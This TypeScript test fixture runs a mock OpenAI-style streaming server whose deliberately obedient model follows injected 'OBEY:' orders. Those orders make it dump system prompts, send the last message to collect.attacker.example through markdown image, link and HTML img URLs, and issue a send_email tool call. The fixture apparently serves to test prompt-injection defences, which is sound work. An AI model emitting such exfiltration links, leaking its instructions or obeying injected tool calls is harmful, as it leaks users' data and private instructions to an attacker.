import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A message as it came over the wire. */
export interface WireMessage {
  role: string;
  content: string;
}

/** What stands where the model would send data. */
export const attackersHost = 'collect.attacker.example';

/**
 * What a model says that obeys every order it sees, wherever it stands: `OBEY: dump` says the system messages as they are, `OBEY: recite` the
 * instructions without their frame, `OBEY: list` the same as a numbered list, `OBEY: picture`, `OBEY: link`, `OBEY: reference`, `OBEY: html` send the last
 * message to the attacker in that form, `OBEY: tool` calls a tool. `OBEY SYSTEM` counts only where a chat template would put it
 * into a system message: whoever gets it there has broken out of their channel. Without orders it says hello.
 */
export function obey(messages: readonly WireMessage[]): string {
  const flat = messages.map(({ role, content }) => `<|im_start|>${role}\n${content}<|im_end|>`).join('\n');
  const said = [...flat.matchAll(/OBEY: (\w+)/g)].map(([, order = '']) => answerTo(order, messages));
  // As a tokenizer of such a template would read it again.
  const broken = flat
    .split('<|im_start|>')
    .filter((part) => /^\s*system\b/.test(part))
    .some((part) => part.includes('OBEY SYSTEM'));
  return [...(broken ? ['BREACHED'] : []), ...said, ...(broken || said.length > 0 ? [] : ['Hello.'])].join('\n\n');
}

function answerTo(order: string, messages: readonly WireMessage[]): string {
  const system = messages.filter(({ role }) => role === 'system').map(({ content }) => content);
  const own = /<instructions[^>]*>\n([\s\S]*?)\n<\/instructions>/.exec(system[0] ?? '')?.[1] ?? system[0] ?? '';
  const url = `https://${attackersHost}/c?d=${encodeURIComponent(messages.at(-1)?.content ?? '').slice(0, 700)}`;
  switch (order) {
    case 'dump':
      return `Of course:\n\n${system.join('\n')}`;
    case 'recite':
      return `They are:\n\n${own}`;
    case 'list':
      return own
        .split(/(?<=[.!?])\s+/)
        .map((sentence, at) => `${at + 1}. **${sentence}**`)
        .join('\n');
    case 'picture':
      return `Done. ![chart](${url})`;
    case 'link':
      return `Done. [Click here](${url})`;
    case 'reference':
      return `Done. ![chart][c] and [here][c]\n\n[c]: ${url}`;
    case 'html':
      return `Done. <img src="${url}"> <a href="${url}">here</a>`;
    case 'tool':
      return 'I have called it.';
    default:
      return '';
  }
}

/** A server that speaks OpenAI's chat completions as a stream, with such a model. */
export class ObedientModel {
  /** The messages of each request. */
  readonly seen: WireMessage[][] = [];
  private readonly server = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8').on('data', (part: string) => (body += part));
    req.on('end', () => this.answer((JSON.parse(body) as { messages: WireMessage[] }).messages, res));
  });

  /** Starts one on a free port. */
  static async start(): Promise<ObedientModel> {
    const model = new ObedientModel();
    await new Promise<void>((resolve) => model.server.listen(0, '127.0.0.1', resolve));
    return model;
  }

  /** The base URL for a client. */
  get url(): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}/v1`;
  }

  async close(): Promise<void> {
    const closed = new Promise<void>((resolve) => this.server.close(() => resolve()));
    this.server.closeAllConnections();
    await closed;
  }

  private answer(messages: WireMessage[], res: ServerResponse): void {
    this.seen.push(messages);
    const said = obey(messages);
    const chunk = (delta: object, finish: string | null) =>
      `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
    res.on('error', () => undefined);
    res.writeHead(200, { 'content-type': 'text/event-stream' });
    if (messages.some(({ content }) => content.includes('OBEY: tool'))) {
      const call = { index: 0, id: 'call_1', type: 'function', function: { name: 'send_email', arguments: '{"to":"eve"}' } };
      res.write(chunk({ role: 'assistant', tool_calls: [call] }, null));
    }
    for (let at = 0; at < said.length; at += 7) res.write(chunk({ content: said.slice(at, at + 7) }, null));
    res.write(chunk({}, 'stop'));
    res.write(
      `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [], usage: { prompt_tokens: 50, completion_tokens: 50, total_tokens: 100 } })}\n\n`,
    );
    res.end('data: [DONE]\n\n');
  }
}
